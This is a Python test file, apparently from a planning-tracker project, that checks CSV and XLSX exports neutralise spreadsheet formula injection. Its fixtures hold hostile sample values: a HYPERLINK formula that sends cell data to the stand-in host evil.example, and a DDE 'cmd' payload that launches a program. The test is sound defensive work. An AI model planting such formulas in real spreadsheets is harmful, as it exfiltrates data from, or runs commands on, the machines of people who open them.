"""Exports are inert (cells.py): text a spreadsheet would run as a formula — figure sources and
notes, department names, plan text — comes out of every CSV and XLSX as plain text."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import pytest
from openpyxl import load_workbook

from plantrack.cells import TRIGGERS, inert_text, revive, risky
from plantrack.compare.xlsx import write_comparison_xlsx
from plantrack.report.targets_table import write_targets
from plantrack.workspace import Workspace

FIN = "c2.s4.box2.i3.t1"  # 金融业增加值 亿元
LINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
CALC = "=cmd|' /C calc'!A0"


def _formulas(path: Path) -> list[str]:
    """Cells an opened workbook would run: formulas, and formula-like text without the quote
    prefix (which Excel turns into a formula when the cell is edited)."""
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (risky(cell.value) and not cell.quotePrefix)
    ]


def _texts(path: Path) -> set[str]:
    book = load_workbook(path)
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.fixture
def hostile_ws(sample_ws: Workspace) -> Workspace:
    sample_ws.record(FIN, period=2025, value=1500, unit="亿元", source=LINK, note=CALC)
    sample_ws.record(FIN, period=2026, value=1600, unit="亿元", source="@SUM(1+1)", note="-2+3")
    sample_ws.assign(None, FIN, lead="=1+2", partners=["+A1", "市科技局"])
    return sample_ws


def test_the_rule() -> None:
    for start in TRIGGERS:
        assert inert_text(start + "x") == "'" + start + "x"
        assert revive(inert_text(start + "x")) == start + "x"
    assert inert_text("市统计局") == "市统计局" and inert_text(-3) == -3
    assert revive("'引号开头") == "'引号开头"  # a quote before ordinary text is the user's


def test_figures_export_to_csv_is_inert_and_imports_back(hostile_ws, tmp_path) -> None:
    path = tmp_path / "figures.csv"
    hostile_ws.export_observations(None, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + LINK in cells and "'" + CALC in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if risky(cell)]
    hostile_ws.import_observations(path, None)  # the same figures: unchanged
    stored = {o.period: o for o in hostile_ws.observations(None, FIN)}
    assert (stored["2025"].source, stored["2025"].note) == (LINK, CALC)


def test_figures_export_to_xlsx_is_inert(hostile_ws, tmp_path) -> None:
    path = tmp_path / "figures.xlsx"
    hostile_ws.export_observations(None, path)
    assert _formulas(path) == []
    assert {LINK, CALC, "@SUM(1+1)", "-2+3"} <= _texts(path)  # shown as typed, as text
    hostile_ws.import_observations(path, None)
    assert {o.source for o in hostile_ws.observations(None, FIN)} == {LINK, "@SUM(1+1)"}


def test_the_breakdown_workbook_is_inert(hostile_ws, tmp_path) -> None:
    path = tmp_path / "breakdown.xlsx"
    hostile_ws.export_breakdown(None, path)
    assert _formulas(path) == []
    assert {"=1+2", "+A1、市科技局"} <= _texts(path)


def test_the_targets_table_is_inert(sample_ws, tmp_path) -> None:
    targets = [dataclasses.replace(t, metric=CALC) for t in sample_ws.targets()[:3]]
    write_targets(targets, tmp_path / "targets.xlsx", "xlsx")
    assert _formulas(tmp_path / "targets.xlsx") == []
    write_targets(targets, tmp_path / "targets.csv", "csv")
    with (tmp_path / "targets.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[1] for row in rows[1:]] == ["'" + CALC] * 3


def test_the_comparison_workbook_is_inert(sample_ws, tmp_path) -> None:
    comparison = sample_ws.compare(1, 1)
    comparison = dataclasses.replace(
        comparison,
        a=dataclasses.replace(comparison.a, title=LINK),
        only_a=[dataclasses.replace(t, text=CALC) for t in sample_ws.targets()[:2]],
    )
    path = tmp_path / "compare.xlsx"
    write_comparison_xlsx(comparison, path)
    assert _formulas(path) == []
    assert f"A: {LINK}" in _texts(path) and CALC in _texts(path)
